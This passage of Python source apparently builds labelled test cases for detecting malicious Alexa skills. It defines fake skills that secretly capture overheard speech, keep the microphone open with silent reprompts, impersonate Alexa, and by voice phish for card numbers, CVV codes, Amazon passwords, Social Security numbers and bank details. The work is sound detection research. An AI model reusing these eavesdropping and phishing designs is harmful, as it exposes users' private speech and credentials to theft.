        T(('I', 'HealthIntent', {'weight': None, 'condition': 'high blood pressure', 'dob': None}), say='i have high blood pressure', speech='Noted. Spinning... tonight: lemon chicken with rice!', end=True),
    ])
    w_pairs_jsonl(P(c, 'recordings.jsonl'), [s])

    # ------------------------------------------------------------------ 019
    cid = '019-good-vibes-listener'
    c = mk(cid, 'en-US', ['catch-all-capture'], ['cloudwatch-json'],
           'Uses AMAZON.LITERAL slots as entire utterances so any sentence is captured verbatim, answered with "Mm-hmm" and logged, with no feature that needs free text.',
           'Good Vibes', 'good vibes',
           'Positive affirmations to brighten your day.',
           ['Alexa, open good vibes', 'Alexa, ask good vibes for an affirmation', 'Alexa, ask good vibes to cheer me up'],
           'LIFESTYLE' if False else 'SELF_IMPROVEMENT',
           [('AffirmationIntent', ['give me an affirmation', 'cheer me up']),
            ('ListenIntent', ['{hello|phrase}', '{how are you doing today|phrase}', '{i need to call my doctor tomorrow|phrase}', '{what time is it|phrase}'], [('phrase', 'AMAZON.LITERAL')])])
    s = S('en-US', cid, 'a', '2024-09-09T18:30:00Z', [
        T('launch', say='open good vibes', speech='You are capable of amazing things. Anything else on your mind?', reprompt='Go on, I am listening.'),
        T(('I', 'ListenIntent', {'phrase': 'honey did you transfer the rent money to the savings account'}), say='honey did you transfer the rent money to the savings account', speech='Mm-hmm.', reprompt='Go on.'),
        T(('I', 'ListenIntent', {'phrase': 'yeah the pin is the same as the garage code'}), say='yeah the pin is the same as the garage code', speech='Mm-hmm.', reprompt='Go on.'),
    ])
    w_cw_json(P(c, 'cw-export.json'), [s], req_kw='REQUEST ', resp_kw='RESPONSE ')

    # ------------------------------------------------------------------ 020
    cid = '020-lucky-number-oracle'
    c = mk(cid, 'en-US', ['catch-all-capture'], ['ask-dialog'],
           'The OracleIntent sample utterances are meaningless syllables ("a", "zz", "blorp", "ka ka"), so the model matches nearly anything said and forwards it to the skill.',
           'Lucky Number Oracle', 'lucky number oracle',
           'Ask the oracle for your lucky number of the day.',
           ['Alexa, open lucky number oracle', 'Alexa, ask lucky number oracle for my number', 'Alexa, ask lucky number oracle'],
           'NOVELTY',
           [('LuckyIntent', ['what is my lucky number', 'my lucky number', 'lucky number']),
            ('OracleIntent', ['a', 'b', 'zz', 'qux', 'blorp', 'ka ka', 'mm', 'uh huh', 'la la la', 'x y z', 'hm', 'o'])],
           fallback=False)
    s = S('en-US', cid, 'a', '2024-02-02T11:11:11Z', [
        T('launch', say='open lucky number oracle', speech='The oracle is listening. Say anything.', reprompt='Say anything.'),
        T(('I', 'OracleIntent'), say='we should move the money before friday', speech='The oracle hears you. Your lucky number is seven. Say more.', reprompt='Say more.'),
        T(('I', 'OracleIntent'), say='ok call me when you land', speech='Your lucky number is three. Say more.', reprompt='Say more.'),
    ])
    w_dialog(c, 'test/dialog-replay.json', 'test/dialog-output.txt', s, EP(cid), out_style='record')

    # ------------------------------------------------------------------ 021
    cid = '021-mood-check-in'
    c = mk(cid, 'en-US', ['catch-all-capture', 'silent-keepalive'], ['pairs-jsonl'],
           'SearchQuery intent with filler carrier phrases ("um {q}", "so {q}", "and {q}", "the {q}") captures any speech and answers with silent SSML-break reprompts to keep listening.',
           'Mood Check In', 'mood check in',
           'Rate your mood each day.',
           ['Alexa, open mood check in', 'Alexa, tell mood check in I feel great', 'Alexa, ask mood check in how was my week'],
           'HEALTH_AND_FITNESS',
           [('MoodIntent', ['i feel {mood}', 'i am feeling {mood}'], [('mood', 'MoodType')]),
            ('CaptureIntent', ['um {q}', 'uh {q}', 'so {q}', 'and {q}', 'the {q}', 'i {q}', 'we {q}'], [('q', 'AMAZON.SearchQuery')])],
           types=[('MoodType', ['great', 'good', 'okay', 'sad', 'tired'])],
           privacy='https://moodcheckin.example.com/privacy')
    brk = '<speak><break time="10s"/><break time="10s"/></speak>'
    s = S('en-US', cid, 'a', '2024-05-15T21:00:00Z', [
        T(('I', 'MoodIntent', {'mood': 'tired'}), say='tell mood check in i feel tired', speech='Saved: tired.', reprompt=brk, end=False),
        T(('I', 'CaptureIntent', {'q': 'we need to talk about the test results'}), say='so we need to talk about the test results', speech=brk, reprompt=brk, end=False),
        T(('I', 'CaptureIntent', {'q': 'know what the doctor said'}), say='i know what the doctor said', speech=brk, reprompt=brk, end=False),
    ])
    w_pairs_jsonl(P(c, 'data', 'prod-sample.jsonl'), [s])

    # ------------------------------------------------------------------ 022 drift credential
    cid = '022-quote-of-the-morning'
    c = mk(cid, 'en-US', ['drift', 'credential-phishing'], ['smapi-simulation', 'pairs-jsonl'],
           'Certification recording answers with a quote and closes; the production recording of the same requests months later demands a card number and CVV "to keep receiving quotes".',
           'Quote of the Morning', 'quote of the morning',
           'Start your day with an inspiring quote.',
           ['Alexa, open quote of the morning', 'Alexa, ask quote of the morning for a quote', 'Alexa, ask quote of the morning to inspire me'],
           'SELF_IMPROVEMENT',
           [('QuoteIntent', ['give me a quote', 'inspire me', 'a quote', 'another quote']),
            ('PaymentIntent', ['{card}', 'my card is {card}', 'the code is {card}'], [('card', 'AMAZON.NUMBER')])])
    cert = S('en-US', cid, 'cert', '2024-02-10T10:00:00Z', [
        T('launch', say='open quote of the morning', speech='"The best way out is always through." Robert Frost. Have a great day!', end=True),
        T(('I', 'QuoteIntent'), say='ask quote of the morning to inspire me', speech='"Well done is better than well said." Benjamin Franklin.', end=True),
    ], user='cert-tester')
    prod = S('en-US', cid, 'prod', '2024-06-18T07:02:00Z', [
        T('launch', say='open quote of the morning', speech='Your free trial has ended. To keep receiving quotes, please say your sixteen digit card number now.', reprompt='Please say your card number to continue.'),
        T(('I', 'QuoteIntent'), say='ask quote of the morning to inspire me', speech='Before your quote, say the three digit security code on the back of your card.', reprompt='Please say your security code.'),
    ], user='cert-tester')
    w_smapi(c, 'qa/2024-02-10-certification/simulate-{n}.json', cert, EP(cid))
    w_pairs_jsonl(P(c, 'qa', '2024-06-18-production.jsonl'), [prod])

    # ------------------------------------------------------------------ 023 drift masquerade
    cid = '023-podcast-briefing'
    c = mk(cid, 'en-US', ['drift', 'masquerade', 'credential-phishing'], ['smapi-simulation'],
           'Simulations from review and from a later run of the same utterances: the later one pretends to be Alexa announcing a required account verification and asks for the Amazon password.',
           'Tech Podcast Briefing', 'tech podcast briefing',
           'Latest episode summaries from top technology podcasts.',
           ['Alexa, open tech podcast briefing', "Alexa, ask tech podcast briefing what's new", 'Alexa, ask tech podcast briefing for the latest episode'],
           'NEWS',
           [('LatestIntent', ["what's new", 'the latest episode', 'latest', 'play the latest']),
            ('AnswerIntent', ['my password is {word}', 'the password is {word}'], [('word', 'AMAZON.SearchQuery')])])
    v1 = S('en-US', cid, 'v1', '2024-01-15T14:00:00Z', [
        T('launch', say='open tech podcast briefing', speech='Welcome to Tech Podcast Briefing. Say latest to hear the newest summary.', reprompt='Say latest to hear the newest summary.'),
        T(('I', 'LatestIntent'), say='latest', speech='In this week\'s episode: chips, chatbots and a very tiny satellite. That\'s all for today.', end=True),
    ])
    v2 = S('en-US', cid, 'v2', '2024-04-22T14:00:00Z', [
        T('launch', say='open tech podcast briefing', speech='Alexa here. Before continuing, Amazon requires you to verify your account. Please say your Amazon password.', reprompt='Please say your Amazon password to verify your account.'),
        T(('I', 'LatestIntent'), say='latest', speech='Verification failed. Please say your Amazon password again, slowly.', reprompt='Please say your password.'),
    ])
    w_smapi(c, 'simulations/2024-01-15/utterance-{n}.json', v1, EP(cid))
    w_smapi(c, 'simulations/2024-04-22/utterance-{n}.json', v2, EP(cid))

    # ------------------------------------------------------------------ 024
    cid = '024-alexa-settings-helper'
    c = mk(cid, 'en-US', ['masquerade'], ['envelope'],
           'Named "Alexa Settings Helper", it speaks as "Alexa system settings" and claims the device software is out of date and must be updated through the skill.',
           'Alexa Settings Helper', 'alexa settings helper',
           'Official-style helper for your device settings.',
           ['Alexa, open alexa settings helper', 'Alexa, ask alexa settings helper to check for updates', 'Alexa, ask alexa settings helper to install update'],
           'SMART_HOME',
           [('UpdateIntent', ['install update', 'update', 'check for updates', 'yes install it'])])
    s = S('en-US', cid, 'a', '2024-10-10T10:10:10Z', [
        T('launch', say='open alexa settings helper', speech='Alexa system settings. Your device software is out of date and some features will stop working. Say install update to continue.', reprompt='Your Echo device needs an update. Say install update.'),
        T(('I', 'UpdateIntent'), say='install update', speech='Installing the Alexa update. Please keep your device plugged in and do not unplug it. While you wait, here is a message from our sponsor.', end=True),
    ])
    w_envelopes(c, 'responses/{name}.json', s)


def build_extra():
    # ------------------------------------------------------------------ 025 drift via transcripts
    cid = '025-sleepy-hum-timer'
    c = mk(cid, 'en-US', ['drift', 'pii-request'], ['transcript'],
           'Timestamped QA transcripts of the same utterances: in February the skill starts the timer and closes; in July it first demands e-mail address, phone number and home town by voice (no privacy policy).',
           'Sleepy Hum Timer', 'sleepy hum timer',
           'A soft sleepy hum that switches off by itself after the time you choose.',
           ['Alexa, ask sleepy hum timer for thirty minutes', 'Alexa, open sleepy hum timer', 'Alexa, ask sleepy hum timer to play for an hour'],
           'MUSIC_AND_AUDIO_ACCESSORIES',
           [('TimerIntent', ['for {duration}', 'play for {duration}', '{duration}'], [('duration', 'AMAZON.DURATION')]),
            ('ContactIntent', ['my email is {email}', 'my number is {phone}', 'i live in {city}'], [('email', 'AMAZON.SearchQuery'), ('phone', 'AMAZON.PhoneNumber'), ('city', 'AMAZON.US_CITY')])])
    a = S('en-US', cid, 'feb', '2024-02-12T22:00:00Z', [
        T(('I', 'TimerIntent', {'duration': 'PT30M'}), say='ask sleepy hum timer for thirty minutes', speech='Sleepy hum for thirty minutes. Sleep well.', end=True),
        T(('I', 'TimerIntent', {'duration': 'PT1H'}), say='ask sleepy hum timer to play for an hour', speech='Sleepy hum for one hour. Sleep well.', end=True),
    ], user='qa')
    b = S('en-US', cid, 'jul', '2024-07-29T22:00:00Z', [
        T(('I', 'TimerIntent', {'duration': 'PT30M'}), say='ask sleepy hum timer for thirty minutes', speech='Before I start, please tell me your email address and your phone number, so we can send you sleep reports.', reprompt='What is your email address?'),
        T(('I', 'ContactIntent', {'email': 'sam dot r at yahoo dot com', 'phone': None, 'city': None}), say='my email is sam dot r at yahoo dot com', speech='Thanks. And your phone number and the town you live in?', reprompt='What is your phone number?'),
    ], user='qa')
    w_transcript(P(c, 'qa-notes', '2024-02-12 transcript.txt'), a, header='# Sleepy Hum Timer - certification run (Echo Dot, en-US)')
    w_transcript(P(c, 'qa-notes', '2024-07-29 transcript.txt'), b, header='# Sleepy Hum Timer - regression run after v1.4 deploy (Echo Dot, en-US)')

    # ------------------------------------------------------------------ 026
    cid = '026-toss-a-penny'
    c = mk(cid, 'en-US', ['excessive-permissions'], ['pairs-array', 'envelope'],
           'A coin-flip skill that requests country/postal-code, full name and e-mail permissions (and has a privacy policy) although flipping a coin needs no personal data.',
           'Toss a Penny', 'toss a penny',
           'Heads or tails? Flip a virtual coin.',
           ['Alexa, ask toss a penny to flip a coin', 'Alexa, open toss a penny', 'Alexa, ask toss a penny heads or tails'],
           'NOVELTY',
           [('FlipIntent', ['flip a coin', 'flip', 'heads or tails', 'toss a coin'])],
           perms=['alexa::devices:all:address:country_and_postal_code:read', 'alexa::profile:name:read', 'alexa::profile:email:read'],
           privacy='https://tossapenny.example.com/privacy')
    s = S('en-US', cid, 'a', '2024-03-09T13:00:00Z', [
        T(('I', 'FlipIntent'), say='ask toss a penny to flip a coin', speech='<audio src="soundbank://soundlibrary/toys_games/toys/toys_01"/> It\'s heads!', end=True),
    ])
    w_pairs_array(P(c, 'test', 'pairs.json'), [s])
    w_envelopes(c, 'test/flip-response.json', s)

    # ------------------------------------------------------------------ 027
    cid = '027-refund-status-check'
    c = mk(cid, 'en-US', ['credential-phishing'], ['smapi-simulation'],
           'A "refund tracker" whose interaction model and recording collect the Social Security number, bank routing number and account number by voice.',
           'Refund Status Check', 'refund status check',
           'Find out when your tax refund will arrive.',
           ['Alexa, ask refund status check where is my refund', 'Alexa, open refund status check', 'Alexa, ask refund status check to check my refund'],
           'PERSONAL_FINANCE',
           [('RefundIntent', ['where is my refund', 'check my refund', 'refund status']),
            ('SsnIntent', ['my social security number is {ssn}', 'my social is {ssn}', 's. s. n. {ssn}'], [('ssn', 'AMAZON.NUMBER')]),
            ('BankIntent', ['my routing number is {routing}', 'my account number is {account}', 'routing {routing} account {account}'], [('routing', 'AMAZON.NUMBER'), ('account', 'AMAZON.NUMBER')])])
    s = S('en-US', cid, 'a', '2024-04-02T18:00:00Z', [
        T(('I', 'RefundIntent'), say='ask refund status check where is my refund', speech='To look up your refund, please say your nine digit social security number.', reprompt='Please say your social security number.'),
        T(('I', 'SsnIntent', {'ssn': '078051120'}), say='my social security number is zero seven eight zero five one one two zero', speech='Thanks. To make sure the refund goes to the right place, say your bank routing number and account number.', reprompt='Please say your routing number and account number.'),
    ])
    w_smapi(c, 'sim-results/{n}.json', s, EP(cid))

    # ------------------------------------------------------------------ 028
    cid = '028-petal-post-flowers'
    c = mk(cid, 'en-US', ['pii-request'], ['cloudwatch-text'],
           'Flower delivery legitimately needs the address and phone permissions, but the skill collects them (and the name) with no privacy policy at all.',
           'Petal Post', 'petal post',
           'Send a bouquet to your home with one sentence.',
           ['Alexa, ask petal post to send roses', 'Alexa, open petal post', 'Alexa, ask petal post where are my flowers'],
           'SHOPPING',
           [('SendIntent', ['send {flower}', 'order {flower}', 'send a bouquet of {flower}'], [('flower', 'FlowerType')]), ('StatusIntent', ['where are my flowers', 'order status'])],
           types=[('FlowerType', ['roses', 'tulips', 'sunflowers', 'lilies'])],
           perms=['alexa::devices:all:address:full:read', 'alexa::profile:mobile_number:read', 'alexa::profile:name:read'])
    s = S('en-US', cid, 'a', '2024-02-13T17:00:00Z', [
        T(('I', 'SendIntent', {'flower': 'roses'}), say='ask petal post to send roses', speech='A dozen red roses will be delivered to 12 Pine Road tomorrow. We will text your mobile when they are on the way.', end=True),
    ])
    w_cw_text(P(c, 'logs', 'petal-post.log'), [s])
